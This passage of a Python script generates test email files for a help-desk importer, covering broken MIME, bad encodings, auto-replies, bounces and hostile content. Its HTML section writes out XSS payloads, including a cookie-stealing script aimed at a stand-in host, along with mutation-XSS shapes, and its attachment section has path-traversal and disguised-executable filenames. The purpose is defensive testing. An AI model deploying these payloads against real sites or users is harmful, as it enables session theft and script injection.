            "Content-Type: text/plain; charset=cp1252\nContent-Transfer-Encoding: 8bit\n\n"
            + raw("Tercera parte: “comillas”.\n".encode("cp1252")),
        ]),
        {"from": LUCIA_ADDR, "subject": "Alias de charset", "bodyContains": "Primera parte: canción."})


# --------------------------------------------------------------------------- broken MIME structure

def mime():
    text = "Texto visible del mensaje roto."
    add("mime-multipart-no-boundary.eml", "multipart/mixed without a boundary parameter", "import",
        head("mime-multipart-no-boundary", "Multipart sin boundary", ctype="multipart/mixed", cte=None) + "\n"
        + "--abc\nContent-Type: text/plain\n\n" + text + "\n--abc--\n",
        {"from": LUCIA_ADDR, "subject": "Multipart sin boundary"})
    add("mime-boundary-never-used.eml", "Declared boundary never appears in the body", "import",
        head("mime-boundary-never-used", "Boundary inexistente", ctype='multipart/mixed; boundary="declarado"',
             cte=None) + "\n--otro\nContent-Type: text/plain\n\n" + text + "\n--otro--\n",
        {"from": LUCIA_ADDR, "subject": "Boundary inexistente"})
    add("mime-unterminated-multipart.eml", "Multipart whose closing boundary is missing and the last part is cut", "import",
        head("mime-unterminated-multipart", "Multipart sin cierre", ctype='multipart/mixed; boundary="sin-cierre"',
             cte=None) + "\n"
        + multipart("sin-cierre", [text_part(text + "\n"),
                                   attachment('; filename="captura.png"', png(), "image/png")], close=False)[:-30],
        {"from": LUCIA_ADDR, "subject": "Multipart sin cierre", "bodyContains": text})
    add("mime-inner-boundary-never-closed.eml", "Inner multipart/alternative never closed, outer one is", "import",
        head("mime-inner-boundary-never-closed", "Boundary interno abierto",
             ctype='multipart/mixed; boundary="exterior"', cte=None) + "\n"
        + multipart("exterior", [
            'Content-Type: multipart/alternative; boundary="interior"\n\n'
            + multipart("interior", [text_part(text + "\n")], close=False),
            attachment('; filename="nota.txt"', b"nota adjunta\n", "text/plain"),
        ]),
        {"from": LUCIA_ADDR, "bodyContains": text})
    add("mime-nested-same-boundary.eml", "Nested multipart reusing the outer boundary string", "import",
        head("mime-nested-same-boundary", "Boundaries iguales", ctype='multipart/mixed; boundary="IGUAL"',
             cte=None) + "\n"
        + multipart("IGUAL", [
            'Content-Type: multipart/alternative; boundary="IGUAL"\n\n'
            + multipart("IGUAL", [text_part(text + "\n"), text_part("<p>" + text + "</p>", subtype="html")]),
            attachment('; filename="datos.csv"', b"a;b\n1;2\n", "text/csv"),
        ]),
        {"from": LUCIA_ADDR, "subject": "Boundaries iguales"})
    nested = 'Content-Type: text/plain; charset="utf-8"\n\nTexto en el nivel más profundo.\n'
    for i in range(99, 0, -1):
        nested = f'Content-Type: multipart/mixed; boundary="nivel{i:03d}"\n\n' + multipart(f"nivel{i:03d}", [nested])
    add("mime-deep-nesting-100.eml", "100 levels of nested multipart/mixed with the text at the bottom", "import",
        head("mime-deep-nesting-100", "Anidamiento profundo", ctype='multipart/mixed; boundary="nivel000"',
             cte=None) + "\n" + multipart("nivel000", [nested]),
        {"from": LUCIA_ADDR, "subject": "Anidamiento profundo", "bodyContains": "Texto en el nivel más profundo."})
    add("mime-content-type-garbage.eml", "Unparseable Content-Type value", "import",
        head("mime-content-type-garbage", "Content-Type roto", ctype="text/; ;;charset==utf-8;;", cte="7bit") + "\n"
        + text + "\n",
        {"from": LUCIA_ADDR, "subject": "Content-Type roto"})
    add("mime-missing-content-type-multipart-body.eml", "MIME-Version but no Content-Type; body looks like a multipart",
        "import",
        head("mime-missing-content-type-multipart-body", "Sin Content-Type", drop=("Content-Type",), cte=None)
        + "\n--frontera\nContent-Type: text/plain\n\n" + text + "\n--frontera--\n",
        {"from": LUCIA_ADDR, "subject": "Sin Content-Type", "bodyContains": text})
    add("mime-part-without-blank-line.eml", "Body part whose headers are not followed by a blank line", "import",
        head("mime-part-without-blank-line", "Parte sin linea en blanco", ctype='multipart/mixed; boundary="b1"',
             cte=None) + "\n--b1\nContent-Type: text/plain\n" + text + "\n--b1--\n",
        {"from": LUCIA_ADDR, "subject": "Parte sin linea en blanco"})
    add("mime-only-html-wrong-subtype.eml", "multipart/alternative with a single part of type text/htm", "import",
        head("mime-only-html-wrong-subtype", "Subtipo desconocido", ctype='multipart/alternative; boundary="b2"',
             cte=None) + "\n" + multipart("b2", ["Content-Type: text/htm; charset=utf-8\n\n<p>" + text + "</p>\n"]),
        {"from": LUCIA_ADDR, "subject": "Subtipo desconocido"})
    add("mime-long-boundary-and-preamble.eml", "Boundary of 200 characters, long preamble and epilogue", "import",
        head("mime-long-boundary-and-preamble", "Boundary largo",
             ctype=f'multipart/mixed; boundary="{"b" * 200}"', cte=None) + "\n"
        + multipart("b" * 200, [text_part(text + "\n")],
                    preamble="This is a multi-part message in MIME format.\n" * 50 + "\n",
                    epilogue="epilogo\n" * 50),
        {"from": LUCIA_ADDR, "subject": "Boundary largo", "bodyContains": text})


# --------------------------------------------------------------------------- transfer encodings and line endings

def encodings():
    text = "La clave del wifi de la oficina dejo de funcionar esta manana."
    snippet = "dejo de funcionar esta manana"
    garbage = b64(text.encode()).rstrip("\n")
    garbage = garbage[:10] + " !@#$ " + garbage[10:30] + "\n***\n" + garbage[30:] + "====\n"
    add("cte-base64-garbage.eml", "base64 text body with garbage characters and stray padding", "import",
        head("cte-base64-garbage", "Base64 con basura", cte="base64") + "\n" + garbage,
        {"from": LUCIA_ADDR, "subject": "Base64 con basura"})
    add("cte-base64-truncated-attachment.eml", "Attachment whose base64 is cut in the middle of a quantum", "import",
        head("cte-base64-truncated-attachment", "Adjunto truncado", ctype='multipart/mixed; boundary="t1"',
             cte=None) + "\n"
        + multipart("t1", [text_part(text + "\n"),
                           attachment('; filename="informe.pdf"', fake_pdf("informe"), "application/pdf")[:-45] + "\n"]),
        {"from": LUCIA_ADDR, "bodyContains": snippet, "attachments": 1, "attachmentNames": ["informe.pdf"]})
    add("cte-base64-on-plain-text.eml", "CTE says base64 but the content is plain text", "import",
        head("cte-base64-on-plain-text", "Base64 falso", cte="base64") + "\n" + text + "\n",
        {"from": LUCIA_ADDR, "subject": "Base64 falso"})
    add("cte-qp-broken.eml", "Broken quoted-printable: invalid escapes, lowercase hex, '=' at the very end, long lines",
        "import",
        head("cte-qp-broken", "QP roto", cte="quoted-printable") + "\n"
        + "Linea con =ZZ escape invalido y =c3=b1 en minusculas.\n"
        + "Linea normal con texto legible para comprobar.\n"
        + "x" * 300 + "\nFin con igual =",
        {"from": LUCIA_ADDR, "subject": "QP roto", "bodyContains": "Linea normal con texto legible para comprobar."})
    add("cte-unknown.eml", "Unknown Content-Transfer-Encoding x-ayuda-zip", "import",
        head("cte-unknown", "CTE desconocido", cte="x-ayuda-zip") + "\n" + text + "\n",
        {"from": LUCIA_ADDR, "subject": "CTE desconocido"})
    add("cte-binary-with-nul.eml", "Binary CTE text body containing NUL bytes and a lone CR", "import",
        head("cte-binary-with-nul", "Cuerpo binario", cte="binary") + "\n"
        + "Inicio\x00\x00 medio\r fin.\nSegunda linea legible del cuerpo.\n",
        {"from": LUCIA_ADDR, "bodyContains": "Segunda linea legible del cuerpo."})
    add("cte-7bit-with-8bit.eml", "CTE 7bit but the body has 8-bit UTF-8", "import",
        head("cte-7bit-with-8bit", "Siete bits mentidos", cte="7bit") + "\nNo se puede imprimir en la sección B.\n",
        {"from": LUCIA_ADDR, "bodyContains": "imprimir en la sección B."})
    add("cte-uuencode.eml", "Attachment in x-uuencode", "import",
        head("cte-uuencode", "Adjunto uuencode", ctype='multipart/mixed; boundary="uu"', cte=None) + "\n"
        + multipart("uu", [text_part(text + "\n"),
                           'Content-Type: text/plain; name="hola.txt"\nContent-Disposition: attachment; filename="hola.txt"\n'
                           "Content-Transfer-Encoding: x-uuencode\n\nbegin 644 hola.txt\n"
                           "+:&]L82!M=6YD;PH`\n`\nend\n"]),
        {"from": LUCIA_ADDR, "bodyContains": snippet, "attachments": 1, "attachmentNames": ["hola.txt"]})

    lf = (head("lineend-bare-lf", "Solo LF", ctype='multipart/mixed; boundary="lf"', cte=None) + "\n"
          + multipart("lf", [text_part("Mensaje con finales de línea LF.\n"),
                             attachment('; filename="a.txt"', b"adjunto\n", "text/plain")]))
    add("lineend-bare-lf.eml", "Whole message with bare LF line endings", "import", lf.encode(),
        {"subject": "Solo LF", "from": LUCIA_ADDR, "bodyContains": "finales de línea LF.", "attachments": 1,
         "attachmentNames": ["a.txt"]}, eol="asis")
    hdr = head("lineend-mixed", "Finales mezclados", ctype='multipart/mixed; boundary="mx"', cte=None).replace("\n", "\r\n")
    mixed = (hdr + "\r\n--mx\nContent-Type: text/plain; charset=utf-8\r\n\nPrimera línea CRLF.\r\n"
             "Segunda línea LF.\nTercera con CR suelto\r y sigue.\n\r\n--mx\r\n"
             "Content-Type: text/plain; name=b.txt\nContent-Disposition: attachment; filename=b.txt\r\n\r\nb\n--mx--\n")
    add("lineend-mixed.eml", "Mixed CRLF, LF and lone CR line endings", "import", mixed.encode(),
        {"from": LUCIA_ADDR, "subject": "Finales mezclados", "bodyContains": "Segunda línea LF.", "attachments": 1},
        eol="asis")
    cr = (head("lineend-cr-only", "Solo CR") + "\nMensaje de un equipo antiguo con CR.\n").replace("\n", "\r")
    add("lineend-cr-only.eml", "Old Mac style: every line ends in a lone CR (header block never ends)", "quarantine",
        cr.encode(), eol="asis")


# --------------------------------------------------------------------------- empty and not-mail

def empty():
    add("empty-zero-bytes.eml", "Empty file", "quarantine", b"")
    add("empty-blank-lines.eml", "Only blank lines and spaces", "quarantine", "\n\n   \n\t\n\n")
    add("empty-headers-only-with-from.eml", "Only headers, no blank line and no body", "import",
        head("empty-headers-only-with-from", "Llamar al cliente urgente").rstrip("\n"),
        {"subject": "Llamar al cliente urgente", "from": LUCIA_ADDR, "attachments": 0})
    add("empty-headers-only-no-from.eml", "Only a couple of headers, no From, no body", "quarantine",
        "To: " + DESK + "\nSubject: sin nada mas\n")
    add("empty-body-only.eml", "Text with no header block at all", "quarantine",
        "\nHola, esto es solo un cuerpo sin encabezados.\nNo hay remitente.\n")
    rnd = random.Random(20260302)
    add("empty-binary-garbage.eml", "Random binary bytes, not a message", "quarantine",
        png((10, 20, 30), 4) + bytes(rnd.getrandbits(8) for _ in range(2048)), eol="asis")


# --------------------------------------------------------------------------- attachments

def attachments():
    text = "Adjunto el archivo solicitado.\n"

    def msg(slug, subject, parts, checks):
        add(slug + ".eml", checks.pop("_case"), "import",
            head(slug, subject, ctype='multipart/mixed; boundary="adj"', cte=None) + "\n"
            + multipart("adj", [text_part(text)] + parts),
            dict({"from": LUCIA_ADDR, "bodyContains": "Adjunto el archivo solicitado."}, **checks))

    msg("attach-path-traversal-unix", "Archivo con ruta",
        [attachment('; filename="../../etc/passwd"', b"no es un passwd real\n", "text/plain")],
        {"_case": "Attachment named ../../etc/passwd", "attachments": 1, "attachmentNames": ["passwd"]})
    msg("attach-windows-path", "Archivo con ruta de Windows",
        [attachment('; filename="C:\\\\Windows\\\\System32\\\\evil.exe"', fake_exe(), "application/octet-stream")],
        {"_case": "Attachment named C:\\Windows\\System32\\evil.exe (backslashes escaped in the quoted string)",
         "attachments": 1, "attachmentNames": ["evil.exe"]})
    msg("attach-windows-path-raw-backslash", "Ruta de Windows sin escapar",
        ['Content-Type: application/octet-stream; name="C:\\Users\\Public\\evil.exe"\n'
         'Content-Disposition: attachment; filename="C:\\Users\\Public\\evil.exe"\n'
         "Content-Transfer-Encoding: base64\n\n" + b64(fake_exe())],
        {"_case": "Attachment name with raw single backslashes as Outlook sends them", "attachments": 1})
    msg("attach-control-chars", "Nombre con caracteres de control",
        [attachment("; filename*=utf-8''factura%00%07marzo%0D%0A.pdf", fake_pdf("factura"), "application/pdf")],
        {"_case": "Attachment name with NUL, BEL, CR and LF (RFC 2231 percent-encoded)", "attachments": 1,
         "attachmentNames": ["facturamarzo.pdf"]})
    msg("attach-rtl-override", "Nombre con RTL override",
        [attachment("; filename*=utf-8''factura%E2%80%AEfdp.exe", fake_exe(), "application/octet-stream")],
        {"_case": "Attachment name with U+202E RIGHT-TO-LEFT OVERRIDE (shows as facturaexe.pdf)", "attachments": 1,
         "attachmentNames": ["facturafdp.exe"]})
    long_name = "informe_" + "muy_largo_" * 100 + ".pdf"
    conts = "".join(f';\n filename*{i}="{long_name[i * 60:(i + 1) * 60]}"' for i in range((len(long_name) + 59) // 60))
    msg("attach-very-long-name", "Nombre larguisimo",
        [attachment(conts, fake_pdf("largo"), "application/pdf")],
        {"_case": "Attachment name of 1012 characters in RFC 2231 continuations", "attachments": 1,
         "attachmentNameMaxLength": 255})
    msg("attach-exe-disguised-as-pdf", "Factura adjunta",
        [attachment('; filename="Factura_0001-00004521.pdf"', fake_exe(), "application/pdf"),
         attachment('; filename="comprobante.pdf.exe"', fake_exe(), "application/pdf")],
        {"_case": "PE executable sent as application/pdf named .pdf, and a .pdf.exe double extension",
         "attachments": 2, "attachmentNames": ["Factura_0001-00004521.pdf", "comprobante.pdf.exe"]})
    msg("attach-empty-name", "Adjunto sin nombre",
        ['Content-Type: application/octet-stream; name=""\nContent-Disposition: attachment; filename=""\n'
         "Content-Transfer-Encoding: base64\n\n" + b64(b"contenido\n")],
        {"_case": "Attachment with filename=\"\" and name=\"\"", "attachments": 1})
    msg("attach-no-name", "Adjunto sin parametro de nombre",
        ["Content-Type: application/octet-stream\nContent-Disposition: attachment\n"
         "Content-Transfer-Encoding: base64\n\n" + b64(b"contenido\n")],
        {"_case": "Attachment with no name parameter at all", "attachments": 1})
    msg("attach-dots-and-spaces-name", "Nombre de puntos",
        [attachment('; filename=" ..  . "', b"puntos\n", "text/plain")],
        {"_case": "Attachment named only dots and spaces", "attachments": 1})
    msg("attach-rfc2231-continuation", "Presupuesto adjunto",
        [attachment(";\n filename*0*=UTF-8''Presupuesto%20a%C3%B1o%202026%20;\n"
                    " filename*1*=%E2%80%93%20revisi%C3%B3n%20final.xlsx", b"PK\x03\x04 no es un xlsx real",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")],
        {"_case": "RFC 2231 encoded and continued UTF-8 filename", "attachments": 1,
         "attachmentNames": ["Presupuesto año 2026 – revisión final.xlsx"]})
    msg("attach-rfc2047-name", "Remito adjunto",
        [attachment('; filename="' + ew_b("Remito número 88.pdf") + '"', fake_pdf("remito"), "application/pdf")],
        {"_case": "RFC 2047 encoded word as filename (non-standard, common)", "attachments": 1,
         "attachmentNames": ["Remito número 88.pdf"]})
    msg("attach-name-only-in-content-type", "Orden de compra",
        ['Content-Type: application/pdf; name="orden_de_compra.pdf"\nContent-Transfer-Encoding: base64\n\n'
         + b64(fake_pdf("orden"))],
        {"_case": "PDF part with name= only in Content-Type and no Content-Disposition", "attachments": 1,
         "attachmentNames": ["orden_de_compra.pdf"]})
    msg("attach-duplicate-names", "Dos fotos",
        [attachment('; filename="foto.png"', png((200, 0, 0)), "image/png"),
         attachment('; filename="foto.png"', png((0, 200, 0)), "image/png")],
        {"_case": "Two different attachments with the same name", "attachments": 2})
    msg("attach-zero-length", "Adjunto vacio",
        ['Content-Type: text/plain; name="vacio.txt"\nContent-Disposition: attachment; filename="vacio.txt"\n'
         "Content-Transfer-Encoding: base64\n\n"],
        {"_case": "Attachment with zero bytes of content", "attachments": 1, "attachmentNames": ["vacio.txt"]})

    inner = (head("forward-inner", "Pedido 4521 confirmado", frm="Ventas <ventas@proveedor-ejemplo.test>",
                  to=LUCIA, ctype='multipart/mixed; boundary="interno"', cte=None) + "\n"
             + multipart("interno", [text_part("Su pedido 4521 fue confirmado.\n"),
                                     attachment('; filename="pedido-4521.pdf"', fake_pdf("4521"), "application/pdf")]))
    add("forward-message-rfc822.eml", "Forwarded message as a message/rfc822 attachment with its own attachment",
        "import",
        head("forward-message-rfc822", "Fwd: Pedido 4521 confirmado", ctype='multipart/mixed; boundary="fw"',
             cte=None) + "\n"
        + multipart("fw", [text_part("Les reenvío la confirmación del proveedor.\n"),
                           'Content-Type: message/rfc822\nContent-Disposition: attachment; filename="Pedido confirmado.eml"\n\n'
                           + inner]),
        {"subject": "Fwd: Pedido 4521 confirmado", "from": LUCIA_ADDR,
         "bodyContains": "Les reenvío la confirmación del proveedor.", "attachments": 1,
         "attachmentNames": ["Pedido confirmado.eml"]})
    add("forward-message-rfc822-truncated.eml", "Forwarded message/rfc822 that is cut off, outer multipart unterminated",
        "import",
        head("forward-message-rfc822-truncated", "Fwd: mensaje cortado", ctype='multipart/mixed; boundary="fw2"',
             cte=None) + "\n"
        + multipart("fw2", [text_part("Reenvío un mensaje que llegó incompleto.\n"),
                            "Content-Type: message/rfc822\n\n" + inner[:len(inner) // 2]], close=False),
        {"from": LUCIA_ADDR, "bodyContains": "Reenvío un mensaje que llegó incompleto."})

    add("attach-tnef-winmail.eml", "Outlook winmail.dat (application/ms-tnef) holding one file", "import",
        head("attach-tnef-winmail", "Planilla de horarios", ctype='multipart/mixed; boundary="tnef"', cte=None,
             extra=[("X-MS-TNEF-Correlator", "<00000000A1B2C3D4@example.org>")]) + "\n"
        + multipart("tnef", [text_part(text),
                             attachment('; filename="winmail.dat"', tnef([("horarios.txt", b"Lunes a viernes 9 a 18\r\n")]),
                                        'application/ms-tnef; name="winmail.dat"')]),
        {"from": LUCIA_ADDR, "bodyContains": "Adjunto el archivo solicitado.", "attachments": 1})
    add("attach-tnef-corrupt.eml", "Corrupt winmail.dat (TNEF signature then garbage)", "import",
        head("attach-tnef-corrupt", "Planilla rota", ctype='multipart/mixed; boundary="tnef"', cte=None) + "\n"
        + multipart("tnef", [text_part(text),
                             attachment('; filename="winmail.dat"', tnef([("x.txt", b"x" * 64)], corrupt=True),
                                        'application/ms-tnef; name="winmail.dat"')]),
        {"from": LUCIA_ADDR, "bodyContains": "Adjunto el archivo solicitado.", "attachments": 1})
    add("attach-inline-image-unreferenced.eml", "Inline-disposition image in a plain text message (Apple Mail style)",
        "import",
        head("attach-inline-image-unreferenced", "Foto del equipo", ctype='multipart/mixed; boundary="ap"', cte=None)
        + "\n" + multipart("ap", [text_part("Les mando la foto del equipo.\n"),
                                  attachment('; filename="equipo.png"', png((90, 90, 90), 2), 'image/png; name="equipo.png"',
                                             disposition="inline")]),
        {"from": LUCIA_ADDR, "bodyContains": "Les mando la foto del equipo.", "attachments": 1,
         "attachmentNames": ["equipo.png"]})


# --------------------------------------------------------------------------- hostile HTML

def html():
    def alt(slug, subject, plain, body_html, checks, case):
        add(slug + ".eml", case, "import",
            head(slug, subject, ctype='multipart/alternative; boundary="h"', cte=None) + "\n"
            + alternative("h", plain, body_html),
            dict({"from": LUCIA_ADDR}, **checks))

    def only(slug, subject, body_html, checks, case):
        add(slug + ".eml", case, "import",
            head(slug, subject, ctype='text/html; charset="utf-8"', cte="quoted-printable") + "\n" + qp(body_html),
            dict({"from": LUCIA_ADDR}, **checks))

    only("html-script", "Script en HTML",
         "<html><head><script>document.location='https://robo.example.org/?c='+document.cookie</script></head>"
         "<body><p>Necesito ayuda con el portal.</p><SCRIPT SRC=//robo.example.org/x.js></SCRIPT>"
         "<scr<script>ipt>alert(1)</scr</script>ipt><!--<script>alert(2)</script>-->"
         "<p>Gracias.</p></body></html>\n",
         {"bodyContains": "Necesito ayuda con el portal.", "bodyNotContains": ["<script", "robo.example.org"]},
         "HTML with <script> in head and body, upper case, split and inside comments")
    only("html-event-handlers", "Manejadores de eventos",
         '<body onload="alert(1)"><p onclick="alert(2)">El sistema muestra un error 500.</p>'
         '<img src="https://img.example.org/x.png" onerror="alert(3)">'
         '<a href="https://example.com/" onmouseover="alert(4)">ver</a>'
         '<svg onload="alert(5)"><circle r="1"/></svg>'
         '<div style="color:red" onfocus=alert(6) autofocus tabindex=1>foco</div></body>\n',
         {"bodyContains": "El sistema muestra un error 500.",
          "bodyNotContains": ["onload", "onclick", "onerror", "onmouseover", "onfocus", "alert("]},
         "HTML with onload, onclick, onerror, onmouseover, onfocus event handlers")
    only("html-javascript-links", "Enlaces javascript",
         '<p>Revise este enlace por favor.</p>'
         '<a href="javascript:alert(1)">uno</a> <a href="JaVaScRiPt:alert(2)">dos</a> '
         '<a href=" javascript:alert(3)">tres</a> <a href="jav&#x09;ascript:alert(4)">cuatro</a> '
         '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(5)">cinco</a> '
         '<a href="vbscript:msgbox(6)">seis</a> <form action="javascript:alert(7)"><button>siete</button></form>'
         '<a href="https://example.com/ayuda">bueno</a>\n',
         {"bodyContains": "Revise este enlace por favor.",
          "bodyNotContains": ["javascript:", "vbscript:", "alert(", "&#106;&#97;"]},
         "HTML with javascript: links in several obfuscations, vbscript:, form action")
    only("html-css-expressions", "CSS peligroso",
         '<html><head><style>body{background:url("javascript:alert(1)")} p{behavior:url(x.htc)}</style>'
         '<link rel="stylesheet" href="https://css.example.org/x.css"></head><body>'
         '<p style="width: expression(alert(2)); color: blue">Texto con estilos peligrosos.</p>'
         '<div style="-moz-binding: url(https://css.example.org/x.xml#xss)">dos</div>'
         '<div style="background-image: url(javascript:alert(3))">tres</div></body></html>\n',
         {"bodyContains": "Texto con estilos peligrosos.",
          "bodyNotContains": ["expression(", "javascript:", "-moz-binding", "behavior", "css.example.org"]},
         "HTML with CSS expression(), behavior, -moz-binding, url(javascript:), <style>, <link>")
    only("html-iframe-object-embed", "Contenido embebido",
         '<p>Vea el formulario abajo.</p><iframe src="https://marco.example.org/"></iframe>'
         '<object data="https://marco.example.org/x.swf" type="application/x-shockwave-flash"></object>'
         '<embed src="https://marco.example.org/y.swf"><applet code="X.class"></applet>'
         '<frameset><frame src="https://marco.example.org/"></frameset>'
         '<meta http-equiv="refresh" content="0;url=https://marco.example.org/"><base href="https://marco.example.org/">\n',
         {"bodyContains": "Vea el formulario abajo.",
          "bodyNotContains": ["<iframe", "<object", "<embed", "<applet", "<frame", "<meta", "<base",
                              "marco.example.org"]},
         "HTML with iframe, object, embed, applet, frameset, meta refresh and base")
    only("html-data-uris", "URIs data",
         '<p>Adjunto la captura del error.</p>'
         '<img src="data:image/svg+xml;base64,' + base64.b64encode(
             b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode() + '">'
         '<a href="data:text/html;base64,' + base64.b64encode(b"<script>alert(2)</script>").decode()
         + '">abrir</a><iframe src="data:text/html,<script>alert(3)</script>"></iframe>\n',
         {"bodyContains": "Adjunto la captura del error.",
          "bodyNotContains": ["data:text/html", "data:image/svg", "<script"]},
         "HTML with data: URIs (SVG image, text/html link and iframe)")
    only("html-tracking-pixel", "Pixel de seguimiento",
         '<p>Le confirmo la recepción del equipo.</p>'
         '<img src="https://tracker.example.org/open?id=8f3a2c&u=soporte%40ayuda.test" width="1" height="1" '
         'style="display:none" alt="">\n',
         {"bodyContains": "Le confirmo la recepción del equipo.", "bodyNotContains": ["tracker.example.org"]},
         "HTML with a 1x1 remote tracking image (remote images must not be fetched or kept)")
    only("html-mutation-xss", "HTML malformado",
         '<p>Mensaje con HTML malformado.</p>'
         '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'
         '<svg><p><style><img src=x onerror=alert(2)></style></p></svg>'
         '<noscript><p title="</noscript><img src=x onerror=alert(3)>"></noscript>'
         '<img src=x:alert(alt) onerror=eval(src) alt=0><div <div onclick=alert(4)>abierto\n',
         {"bodyContains": "Mensaje con HTML malformado.", "bodyNotContains": ["onerror", "onclick", "<svg", "<math"]},
         "Mutation-XSS shapes: math/svg/style/noscript nesting, unclosed tags")
    alt("html-alternative-safe-plain", "Alternativa con HTML peligroso",
        "Version en texto: no puedo descargar la factura.\n",
        '<p>Version en HTML: no puedo descargar la factura.</p><script>alert(1)</script>'
        '<a href="javascript:alert(2)">descargar</a>\n',
        {"bodyContains": "no puedo descargar la factura.", "bodyNotContains": ["<script", "javascript:"]},
        "multipart/alternative whose HTML part is hostile and plain part is clean")

    logo = png((0, 102, 204), 2)
    add("html-inline-cid-image.eml", "multipart/related HTML with an inline image referenced by Content-ID", "import",
        head("html-inline-cid-image", "Captura de pantalla", ctype='multipart/related; boundary="rel"; type="text/html"',
             cte=None) + "\n"
        + multipart("rel", [
            text_part('<p>Así se ve el error:</p><img src="cid:captura-01@mail.example.com" alt="captura">\n',
                      subtype="html"),
            'Content-Type: image/png; name="captura.png"\nContent-Transfer-Encoding: base64\n'
            'Content-ID: <captura-01@mail.example.com>\nContent-Disposition: inline; filename="captura.png"\n\n'
            + b64(logo)]),
        {"from": LUCIA_ADDR, "bodyContains": "Así se ve el error:", "attachments": 0, "inlineImages": 1})
    add("html-inline-cid-missing.eml", "HTML references a cid: image that is not in the message", "import",
        head("html-inline-cid-missing", "Imagen faltante", ctype='multipart/related; boundary="rel"', cte=None) + "\n"
        + multipart("rel", [text_part('<p>Falta la imagen:</p><img src="cid:no-existe@mail.example.com">\n',
                                      subtype="html")]),
        {"from": LUCIA_ADDR, "bodyContains": "Falta la imagen:", "attachments": 0})


# --------------------------------------------------------------------------- auto-replies, bulk, bounces, loops

def automatic():
    ooo = "\nEstaré fuera de la oficina hasta el lunes 9 de marzo. Para urgencias llame al interno 204.\n"

    def auto(file, case, extra, frm=LUCIA, subject=None, checks=None):
        add(file, case, "ignore",
            head(file[:-4], subject or ew_q("Respuesta automática: Consulta sobre facturación"), frm=frm,
                 extra=extra) + ooo, checks if checks is not None else {"isAutoReply": True})

    auto("auto-submitted-auto-replied.eml", "Out-of-office with Auto-Submitted: auto-replied",
         [("Auto-Submitted", "auto-replied"), ("In-Reply-To", "<ticket-2026-000130.1@ayuda.test>")])
    auto("auto-submitted-params-uppercase.eml", "Auto-Submitted: AUTO-REPLIED with parameters and a comment",
         [("Auto-Submitted", 'AUTO-REPLIED (vacation); owner-email="lucia.fernandez@example.com"')])
    auto("auto-submitted-auto-generated.eml", "System notification with Auto-Submitted: auto-generated",
         [("Auto-Submitted", "auto-generated")], frm="Sistema de Alarmas <alarmas@planta-ejemplo.test>",
         subject="Alarma: disco lleno en SRV-02")
    auto("auto-x-autoreply.eml", "Auto-reply marked only with X-Autoreply: yes", [("X-Autoreply", "yes")])
    auto("auto-x-autorespond.eml", "Auto-reply marked only with X-Autorespond", [("X-Autorespond", "yes")])
    auto("auto-precedence-bulk.eml", "Newsletter with Precedence: bulk", [("Precedence", "bulk")],
         frm="Novedades <novedades@tienda-ejemplo.test>", subject="Ofertas de marzo", checks={})
    auto("auto-precedence-junk.eml", "Message with Precedence: junk", [("Precedence", "junk")],
         frm="Promo <promo@tienda-ejemplo.test>", subject="Gane un premio", checks={})
    auto("auto-precedence-list.eml", "Mailing list message with Precedence: list", [("Precedence", "list")],
         frm="Foro Usuarios <foro@lista-ejemplo.test>", subject="[foro] Resumen semanal", checks={})
    auto("auto-list-id.eml", "Mailing list message with List-Id and List-Unsubscribe only",
         [("List-Id", "Usuarios del sistema <usuarios.lista-ejemplo.test>"),
          ("List-Unsubscribe", "<mailto:baja@lista-ejemplo.test>")],
         frm="Foro Usuarios <foro@lista-ejemplo.test>", subject="[usuarios] Nueva version disponible", checks={})
    auto("auto-mailer-daemon-plain.eml", "Plain-text bounce from MAILER-DAEMON (not a DSN)", [],
         frm="Mail Delivery Subsystem <MAILER-DAEMON@mx.example.org>", subject="Returned mail: User unknown",
         checks={"isAutoReply": True})
    auto("auto-postmaster.eml", "Notice from postmaster", [],
         frm="postmaster@example.org", subject="Undeliverable: Consulta", checks={"isAutoReply": True})
    auto("auto-loop-own-address.eml", "Message from the help desk's own address with X-Loop (mail loop)",
         [("X-Loop", DESK_ADDR)], frm=DESK, subject="Re: [#2026-000123] No puedo ingresar al sistema", checks={})

    def dsn(file, case, orig_id, action, status, third, envid=True):
        report = ("Reporting-MTA: dns; mx1.example.org\n"
                  + (f"Original-Envelope-Id: {orig_id}\n" if envid else "")
                  + "Arrival-Date: Mon, 02 Mar 2026 10:15:02 -0300\n\n"
                  + "Final-Recipient: rfc822; cliente.inexistente@example.org\n"
                  + f"Action: {action}\nStatus: {status}\n"
                  + "Diagnostic-Code: smtp; 550 5.1.1 <cliente.inexistente@example.org>: user unknown\n")
        orig_head = head("x", "[#2026-000140] Su pedido fue recibido", frm=DESK,
                         to="cliente.inexistente@example.org", mid=f"<{orig_id}>")
        parts = ["Content-Type: text/plain; charset=us-ascii\n\nThis is the mail system at host mx1.example.org.\n"
                 "Your message could not be delivered to one or more recipients.\n",
                 "Content-Type: message/delivery-status\n\n" + report]
        if third == "message":
            parts.append("Content-Type: message/rfc822\n\n" + orig_head + "\nRecibimos su pedido.\n")
        else:
            parts.append("Content-Type: text/rfc822-headers\n\n" + orig_head)
        add(file, case, "ignore",
            head(file[:-4], "Undelivered Mail Returned to Sender",
                 frm="Mail Delivery System <MAILER-DAEMON@mx1.example.org>", to=DESK,
                 ctype='multipart/report; report-type=delivery-status; boundary="dsn"', cte=None,
                 extra=[("Auto-Submitted", "auto-replied")]) + "\n" + multipart("dsn", parts),
            {"isAutoReply": True, "bounceFor": orig_id})

    dsn("dsn-failed-with-message.eml", "DSN (multipart/report) failure with the original as message/rfc822",
        "ticket-2026-000140.1@ayuda.test", "failed", "5.1.1", "message")
    dsn("dsn-failed-headers-only.eml", "DSN failure with Original-Envelope-Id and text/rfc822-headers",
        "ticket-2026-000141.1@ayuda.test", "failed", "5.1.1", "headers")
    dsn("dsn-delayed-no-envid.eml", "DSN 'delayed' without Original-Envelope-Id; id from the embedded message",
        "ticket-2026-000142.1@ayuda.test", "delayed", "4.4.7", "message", envid=False)


# --------------------------------------------------------------------------- size

def size(large):
    slug = LARGE_FILE[:-4]
    top = head(slug, "Adjunto enorme", ctype='multipart/mixed; boundary="grande"', cte=None) + "\n"
    if not large:
        add(LARGE_FILE, "Message just over 25 MiB (placeholder; run generate.py --large for the real file)",
            "quarantine",
